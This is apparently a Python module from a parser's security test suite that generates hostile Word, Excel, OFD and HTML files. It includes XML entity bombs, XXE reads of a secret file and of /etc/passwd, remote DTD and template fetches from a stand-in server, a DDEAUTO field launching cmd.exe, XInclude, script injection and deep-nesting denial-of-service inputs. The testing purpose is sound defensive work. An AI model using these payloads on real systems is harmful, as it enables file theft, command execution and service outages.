"""XML and HTML: entities, document types, inclusion, depth, spans that no grid holds."""

from __future__ import annotations

from collections.abc import Callable

from . import NOTICE, ROWS, SECRET, SERVER, Attack
from .zips import packed

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def docx(body: str, *, before: str = "", parts: dict[str, str] | None = None, attributes: str = "") -> bytes:
    """A Word file whose body is given; `before` stands between the XML declaration and the root."""
    document = (
        f'{before}<w:document xmlns:w="{W}" xmlns:r="{R}"{attributes}><w:body>{body}</w:body></w:document>'
    )
    return packed(
        [("word/document.xml", document.encode()), *((n, p.encode()) for n, p in (parts or {}).items())]
    )


def para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word_notice(extra: str = "") -> str:
    return "".join(map(para, NOTICE.split("\n"))) + extra


def xlsx(sheet: str, *, before: str = "", parts: dict[str, str] | None = None) -> bytes:
    """A workbook with one sheet, whose XML inside <worksheet> is given."""
    return packed(
        [
            ("xl/workbook.xml", f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'.encode()),
            ("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{R}/worksheet" Target="worksheets/s.xml"/></Relationships>'.encode()),
            ("xl/worksheets/s.xml", f'{before}<worksheet xmlns="{S}">{sheet}</worksheet>'.encode()),
            *((name, part.encode()) for name, part in (parts or {}).items()),
        ]
    )  # fmt: skip


def sheet_rows(extra: str = "") -> str:
    cells = (
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{words}</t></is></c>' for words in row) + "</row>"
        for row in ROWS
    )
    return f"<sheetData>{''.join(cells)}{extra}</sheetData>"


def ofd(
    page: str, *, before: str = "", pages: str = '<Page ID="1" BaseLoc="P.xml"/>', res: str = ""
) -> bytes:
    """An OFD file whose pages all are the one part P.xml."""
    box = "<PageArea><PhysicalBox>0 0 210 297</PhysicalBox></PageArea>"
    more = "<PublicRes>R.xml</PublicRes>" if res else ""
    return packed(
        [
            ("OFD.xml", b"<OFD><DocBody><DocRoot>D.xml</DocRoot></DocBody></OFD>"),
            (
                "D.xml",
                f"<Document><CommonData>{box}{more}</CommonData><Pages>{pages}</Pages></Document>".encode(),
            ),
            ("P.xml", f"{before}<Page><Content><Layer>{page}</Layer></Content></Page>".encode()),
            ("R.xml", res.encode()),
        ]
    )


def printed(text: str = NOTICE) -> str:
    """The notice as OFD text objects, a line each."""
    return "".join(
        f'<TextObject ID="{i + 9}" Boundary="10 {10 + 8 * i} 190 6" Size="4"><TextCode X="0" Y="4">{line}</TextCode></TextObject>'
        for i, line in enumerate(text.split("\n"))
    )


def page(body: str, head: str = "") -> bytes:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'.encode()
    )


def web_notice() -> str:
    return "".join(f"<p>{line}</p>" for line in NOTICE.split("\n"))


# Document types -------------------------------------------------------------------------------------
def laughs(levels: int = 9) -> str:
    """A billion laughs: each entity is ten of the one before."""
    inner = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(levels))
    return f'<!DOCTYPE x [<!ENTITY l0 "哈">{inner}]>'


QUADRATIC = f'<!DOCTYPE x [<!ENTITY l9 "{"哈" * 100_000}">]>'
SYSTEM = f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "file://{SECRET}">]>'
REMOTE = f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{SERVER}/entity">]>'
PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{SERVER}/parameter"> %p; <!ENTITY l9 "哈">]>'
DTD = f'<!DOCTYPE x SYSTEM "{SERVER}/outer.dtd">'
TYPES = {"billion-laughs": laughs(), "quadratic-blowup": QUADRATIC, "external-entity": SYSTEM,
         "remote-entity": REMOTE, "parameter-entity": PARAMETER, "external-dtd": DTD}  # fmt: skip
USES = {"quadratic-blowup": "&l9;" * 20_000, "external-dtd": ""}


def typed() -> list[Attack]:
    """Each document type in each format that is XML; a web page has none that counts, and is read."""
    found = []
    for kind, declared in TYPES.items():
        use = USES.get(kind, "&l9;")
        formats: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
            ("docx", "UnreadableError", lambda t=declared, u=use: docx(word_notice(para(u)), before=t)),
            ("xlsx", "UnreadableError", lambda t=declared, u=use: xlsx(sheet_rows(f"<row><c><v>{u}</v></c></row>"), before=t)),
            ("ofd", "notice", lambda t=declared, u=use: ofd(printed(f"{NOTICE}{u}"), before=t)),
            ("xhtml", "notice", lambda t=declared, u=use: f'<?xml version="1.0"?>{t}<html><body>{web_notice()}<p>{u}</p></body></html>'.encode()),
        )  # fmt: skip
        for name, ends, make in formats:
            found.append(Attack(f"{kind}-{name}", f"a.{name}", make, ends))
    return found


def in_attributes() -> bytes:
    """Laughs in an attribute's value, where entities are replaced whatever the parser is told."""
    return docx(word_notice('<w:p w:x="&l8;"/>'), before=laughs(8))


def late_type() -> bytes:
    return xlsx(sheet_rows("<row><c><v>&l9;</v></c></row>"), before=f"<!--{'x' * 5000}-->{SYSTEM}")


def wide_type() -> bytes:
    """A document type in UTF-16, where the bytes of "<!DOCTYPE" do not stand."""
    text = f'<?xml version="1.0" encoding="utf-16"?>{SYSTEM}<w:document xmlns:w="{W}"><w:body>{word_notice(para("&l9;"))}</w:body></w:document>'
    return packed([("word/document.xml", b"\xff\xfe" + text.encode("utf-16-le"))])


# What fetches ---------------------------------------------------------------------------------------
def calling_docx() -> bytes:
    """Relations, fields, pictures, a template and a chunk that all stand on a server or on the disk."""
    server, secret = SERVER, SECRET
    related = "".join(
        f'<Relationship Id="r{i}" Type="{R}/{kind}" Target="{target}"{mode}/>'
        for i, (kind, target, mode) in enumerate(
            [
                ("attachedTemplate", f"{server}/t.dotm", ' TargetMode="External"'),
                ("styles", f"{server}/styles.xml", ""),
                ("numbering", f"file://{secret}", ""),
                ("header", "../../../../../../etc/passwd", ""),
                ("image", f"{server}/i.png", ' TargetMode="External"'),
                ("aFChunk", f"{server}/chunk.html", ' TargetMode="External"'),
            ]
        )
    )
    fields = f'<w:p><w:fldSimple w:instr=\' INCLUDETEXT "{secret}" \'><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p><w:altChunk r:id="r5"/>'
    fields += "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '/></w:p>"
    return docx(
        word_notice(fields),
        parts={"word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{related}</Relationships>'},
    )


def calling_page() -> bytes:
    server, secret = SERVER, SECRET
    head = f'<base href="{server}/"><link rel="stylesheet" href="a.css"><meta http-equiv="refresh" content="0;url={server}">'
    head += f'<script src="{server}/a.js">alert(1)</script>'
    body = f'<iframe src="{server}"></iframe><img src="{server}/a.png" onerror="alert(1)"><object data="file://{secret}"></object>'
    body += f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
    return page(body + web_notice(), head)


def including() -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{SECRET}" parse="text"/>'
    return docx(word_notice(f"<w:p><w:r><w:t>{include}</w:t></w:r></w:p>"))


# Depth and size -------------------------------------------------------------------------------------
def deep_tables_docx(depth: int) -> bytes:
    inner = para("编制公开事项目录。（责任单位：区司法局）")
    for _ in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{inner}{para('甲')}</w:tc><w:tc>{para('乙')}</w:tc></w:tr></w:tbl>"
    return docx(word_notice(inner))


def looped_styles() -> bytes:
    """Styles built on each other in a ring, and lists that name each other."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{(i + 1) % 50}"/><w:link w:val="s{i}"/></w:style>'
        for i in range(50)
    )
    lists = "".join(
        f'<w:abstractNum w:abstractNumId="{i}"><w:numStyleLink w:val="s{i}"/><w:styleLink w:val="s{i}"/></w:abstractNum>'
        f'<w:num w:numId="{i}"><w:abstractNumId w:val="{i}"/></w:num>'
        for i in range(50)
    )
    related = "".join(
        f'<Relationship Id="{k}" Type="{R}/{k}" Target="{k}.xml"/>' for k in ("styles", "numbering")
    )
    body = '<w:p><w:pPr><w:pStyle w:val="s1"/><w:numPr><w:ilvl w:val="99"/><w:numId w:val="3"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>'
    parts = {
        "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
        "word/numbering.xml": f'<w:numbering xmlns:w="{W}">{lists}</w:numbering>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{related}</Relationships>',
    }
    return docx(word_notice(body), parts=parts)


def wide_spans_docx() -> bytes:
    row = (
        f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge/></w:tcPr>{para("甲")}</w:tc></w:tr>'
    )
    return docx(word_notice(f"<w:tbl>{row * 500}</w:tbl>"))


def wide_spans_html() -> bytes:
    row = '<tr><td colspan="1000000000" rowspan="1000000000">甲</td><td colspan="-5" rowspan="0">乙</td></tr>'
    return page(web_notice() + f"<table>{row * 300}</table>")


def overlapping_spans_html() -> bytes:
    """Ten thousand rows in which every cell reaches down to the last."""
    rows = "".join(
        f'<tr><td rowspan="65534">{i}</td><td>开展专项检查</td><td>区司法局</td></tr>' for i in range(3000)
    )
    return page(web_notice() + f"<table>{rows}</table>")


ATTACKS = (
    *typed(),
    Attack("laughs-in-an-attribute-docx", "a.docx", in_attributes, "UnreadableError"),
    Attack("late-document-type-xlsx", "a.xlsx", late_type, "notice"),
    Attack("utf-16-document-type-docx", "a.docx", wide_type, "UnreadableError"),
    Attack("docx-that-calls-a-server", "a.docx", calling_docx, "notice"),
    Attack("page-that-calls-a-server", "a.html", calling_page, "notice"),
    Attack("docx-with-inclusion", "a.docx", including, "notice"),
    Attack("docx-looped-styles", "a.docx", looped_styles, "notice"),
    Attack("docx-tables-in-tables", "a.docx", lambda: deep_tables_docx(60), "notice"),
    Attack("docx-tables-in-tables-too-deep", "a.docx", lambda: deep_tables_docx(5000), "UnreadableError"),
    Attack("docx-100000-open-elements", "a.docx", lambda: docx("<w:p>" * 100_000), "UnreadableError"),
    Attack("docx-endless-spans", "a.docx", wide_spans_docx, "notice"),
    Attack("html-100000-open-tags", "a.html", lambda: page("<div>" * 100_000 + web_notice()), "UnreadableError"),
    Attack("html-100000-open-fonts", "a.html", lambda: page("<font>" * 100_000 + web_notice()), "notice"),
    Attack("html-tables-in-tables", "a.html", lambda: page("<table><tr><td>" * 3000 + web_notice()), "UnreadableError"),
    Attack("html-endless-spans", "a.html", wide_spans_html, "notice"),
    Attack("html-spans-to-the-end", "a.html", overlapping_spans_html, "notice"),
    Attack("html-200000-empty-tags", "a.html", lambda: page(web_notice() + "<br>" * 200_000), "notice"),
    Attack("html-million-attributes", "a.html", lambda: page(web_notice() + f"<p {' a=1' * 300_000}>甲</p>"), "notice"),
)  # fmt: skip
